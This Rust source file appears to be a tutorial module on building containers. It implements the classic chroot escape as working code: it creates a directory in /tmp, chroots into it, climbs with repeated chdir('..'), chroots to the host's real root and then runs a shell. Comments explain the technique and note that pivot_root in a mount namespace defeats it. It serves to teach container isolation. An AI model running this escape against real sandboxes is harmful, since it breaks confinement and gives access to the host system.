//! `probe escape`: the classic chroot escape (see chroot(2), NOTES).
//!
//! chroot() changes what `/` means for a process, but not its current
//! directory, and it does not nest: the kernel only remembers the *latest*
//! root. A root process inside a chroot can therefore:
//!
//! 1. make a directory (in /tmp) and chroot() into it, *without* chdir()ing there: its
//!    current directory is now outside its root;
//! 2. chdir("..") again and again: `..` only stops at the process's root,
//!    and the current directory is no longer beneath it, so it climbs up to
//!    the host's real `/`;
//! 3. chroot(".") there: the host's `/` is its root again.
//!
//! Step 05 replaces chroot with pivot_root in a mount namespace, where the
//! old root is unmounted and this climb leads nowhere.

use std::ffi::CString;
use std::process::ExitCode;

// ANCHOR: escape
fn escape() -> Result<(), String> {
    // In /tmp, which anyone may write: container root need not own the rootfs.
    let dir = format!("/tmp/escape.{}", std::process::id());
    let c_dir = CString::new(dir.clone()).expect("no NUL in the name");
    // SAFETY: plain system calls on C strings that outlive them.
    unsafe {
        // 1. a new root below us; our current directory stays where it is
        if libc::mkdir(c_dir.as_ptr(), 0o700) != 0 {
            return Err(format!(
                "mkdir({dir:?}): {}",
                std::io::Error::last_os_error()
            ));
        }
        if libc::chroot(c_dir.as_ptr()) != 0 {
            return Err(format!(
                "chroot({dir:?}): {}",
                std::io::Error::last_os_error()
            ));
        }
        // (the directory is only a stepping stone: remove it again)
        libc::rmdir(c_dir.as_ptr());
        // 2. climb: `..` of the host's `/` is `/` itself, so climbing
        //    further than needed does no harm
        for _ in 0..256 {
            libc::chdir(c"..".as_ptr());
        }
        // 3. make where we are, the host's real root, our root again
        if libc::chroot(c".".as_ptr()) != 0 {
            return Err(format!(
                "chroot(\".\"): {}",
                std::io::Error::last_os_error()
            ));
        }
    }
    Ok(())
}
// ANCHOR_END: escape

pub fn run(args: &[String]) -> ExitCode {
    let command = match args {
        [] => vec!["/bin/sh".to_string()],
        [dashes, rest @ ..] if dashes == "--" && !rest.is_empty() => rest.to_vec(),
        _ => {
            eprintln!("probe escape: usage: probe escape [-- CMD ARGS...]");
            return ExitCode::from(2);
        }
    };
    if let Err(e) = escape() {
        eprintln!("probe escape: the escape failed: {e}");
        return ExitCode::from(1);
    }
    eprintln!("probe escape: escaped the chroot; running {command:?} with the host's root");
    let error = std::os::unix::process::CommandExt::exec(
        std::process::Command::new(&command[0]).args(&command[1..]),
    );
    eprintln!("probe escape: cannot run {:?}: {error}", command[0]);
    ExitCode::from(127)
}
